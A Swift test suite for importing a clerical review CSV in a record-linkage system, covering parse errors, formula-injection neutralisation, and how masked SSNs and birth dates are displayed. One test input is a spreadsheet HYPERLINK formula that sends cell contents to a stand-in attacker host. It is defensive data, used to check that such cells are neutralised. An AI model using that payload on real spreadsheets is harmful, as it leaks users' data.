import Foundation
import OutcomesDomain
import Testing

/// The review file's import grammar (errors at file:line with codes) and how values are shown.
@Suite struct ClericalReviewFileTests {
    static let header = "source_system_l,source_key_l,source_system_r,source_key_r,decision,note"

    static func read(_ text: String) throws -> (ClericalReviewImport, String) {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString).csv").path
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        return (try ClericalReviewImport.read(path: path), path)
    }

    /// The error reading `text` throws, with the path replaced by "FILE".
    static func error(_ text: String) throws -> ClericalReviewError? {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString).csv").path
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        do {
            _ = try ClericalReviewImport.read(path: path)
            return nil
        } catch let error as ClericalReviewError {
            return ClericalReviewError(file: "FILE", line: error.line, code: error.code)
        }
    }

    @Test func readsDecisionsNotesAndUndecidedRows() throws {
        let (file, _) = try Self.read("""
            \(Self.header)
            A,1,B,2,match,"checked the address,
            twice"
            A,3,B,4,,
            B,6,A,5,non_match,
            A,5,B,6,non_match,repeat

            """)
        #expect(file.decisions == [
            ClericalDecision(line: 2, left: .init(sourceSystem: "A", sourceKey: "1"), right: .init(sourceSystem: "B", sourceKey: "2"),
                             decision: .match, note: "checked the address,\ntwice"),
            ClericalDecision(line: 5, left: .init(sourceSystem: "B", sourceKey: "6"), right: .init(sourceSystem: "A", sourceKey: "5"),
                             decision: .nonMatch, note: nil),
        ])
        #expect(file.undecidedRows == 1 && file.repeatedRows == 1)
    }

    @Test func theExportsContextColumnsAreAcceptedAndNoteIsOptional() throws {
        let (file, _) = try Self.read("""
            source_system_l,source_key_l,source_system_r,source_key_r,match_probability,match_weight,ssn_level,ssn_left,ssn_right,decision
            A,1,B,2,0.7000,1.22,ssn_last4,=,=,match

            """)
        #expect(file.decisions.map(\.decision) == [.match] && file.decisions[0].note == nil)
    }

    @Test(arguments: [
        ("", ClericalReviewError(file: "FILE", line: 1, code: .emptyFile)),
        ("source_system_l,source_key_l,source_system_r,source_key_r,verdict\n",
         ClericalReviewError(file: "FILE", line: 1, code: .unknownColumn("verdict"))),
        ("source_system_l,source_key_l,source_system_r,source_key_r,decision,decision\n",
         ClericalReviewError(file: "FILE", line: 1, code: .repeatedColumn("decision"))),
        ("source_system_l,source_key_l,source_system_r,decision\n",
         ClericalReviewError(file: "FILE", line: 1, code: .missingColumn("source_key_r"))),
        ("source_system_l,source_key_l,source_system_r,source_key_r\n",
         ClericalReviewError(file: "FILE", line: 1, code: .missingColumn("decision"))),
        ("\(header)\nA,1,B,2,match\n", ClericalReviewError(file: "FILE", line: 2, code: .fieldCount(found: 5, expected: 6))),
        ("\(header)\nA,1,B,2,,\nA,1,B,2,Match,\n", ClericalReviewError(file: "FILE", line: 3, code: .unknownDecision("Match"))),
        ("\(header)\nA,,B,2,match,\n", ClericalReviewError(file: "FILE", line: 2, code: .missingKey("source_key_l"))),
        ("\(header)\nA,1,A,1,non_match,\n", ClericalReviewError(file: "FILE", line: 2, code: .sameRecord)),
        ("\(header)\nA,1,B,2,match,\nA,3,B,4,match,\nB,2,A,1,non_match,\n",
         ClericalReviewError(file: "FILE", line: 4, code: .conflictingDecision(earlierLine: 2))),
    ])
    func badFilesAreErrorsAtFileLine(text: String, expected: ClericalReviewError) throws {
        #expect(try Self.error(text) == expected)
    }

    /// #6: a cell that begins like a formula is written with a single quote before it (OWASP); a
    /// plain number is a number, not a formula.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"97140\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"97140\")"),
        ("+1-555", "'+1-555"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"),
        ("ANN", "ANN"), ("O'Brien", "O'Brien"), ("'quoted", "'quoted"), ("", ""), ("==", "'=="), ("a=b", "a=b"),
        // `=` alone is the mark for values that agree: no formula.
        ("=", "="),
        ("-1.25", "-1.25"), ("0.5000", "0.5000"), ("-3", "-3"), ("-1.2.3", "'-1.2.3"), ("-1e5", "'-1e5"),
    ])
    func cellsThatBeginLikeAFormulaAreNeutralised(cell: String, written: String) {
        #expect(ClericalReviewFile.neutralised(cell) == written)
    }

    /// The import reads a neutralised key back as the key (a key loaded before keys were
    /// forbidden to begin so), and every other key as written.
    @Test func neutralisedKeysAreReadBackAsStored() throws {
        let keys = ["=K1", "+K2", "-K3", "@K4", "K5", "O'K6"]
        let rows = keys.enumerated().map { index, key in
            ["S1", ClericalReviewFile.neutralised(key), "S2", ClericalReviewFile.neutralised("R\(index)"), "match", ""].joined(separator: ",")
        }
        let (file, _) = try Self.read(([Self.header] + rows).joined(separator: "\n") + "\n")
        #expect(file.decisions.map(\.left.sourceKey) == keys)
        #expect(file.decisions.map(\.right.sourceKey) == keys.indices.map { "R\($0)" })
    }

    @Test func valuesAreShownOnlyWhereTheyDiffer() {
        #expect(ClericalReviewFile.valueCells(left: "ANN", right: "ANNE", level: 1, exactLevel: 0) == ("ANN", "ANNE"))
        // Exact: the values agree as compared (case and punctuation aside), so neither is written.
        #expect(ClericalReviewFile.valueCells(left: "Ann", right: "ANN", level: 0, exactLevel: 0) == ("=", "="))
        // Equal as shown (an SSN's last four at the ssn_last4 level).
        #expect(ClericalReviewFile.valueCells(left: "XXX-XX-1234", right: "XXX-XX-1234", level: 3, exactLevel: 0) == ("=", "="))
        // The null level: nothing was compared.
        #expect(ClericalReviewFile.valueCells(left: "ANN", right: nil, level: nil, exactLevel: 0) == ("", ""))
        #expect(ClericalReviewFile.shownSSN(lastFour: "0042") == "XXX-XX-0042")
        #expect(ClericalReviewFile.shownBirthDate(date: "1980-03-04", year: 1980, month: 3) == "1980-03-04")
        #expect(ClericalReviewFile.shownBirthDate(date: nil, year: 1980, month: 3) == "1980-03")
        #expect(ClericalReviewFile.shownBirthDate(date: nil, year: 1980, month: nil) == "1980")
        #expect(ClericalReviewFile.shownBirthDate(date: nil, year: nil, month: nil) == nil)
    }
}
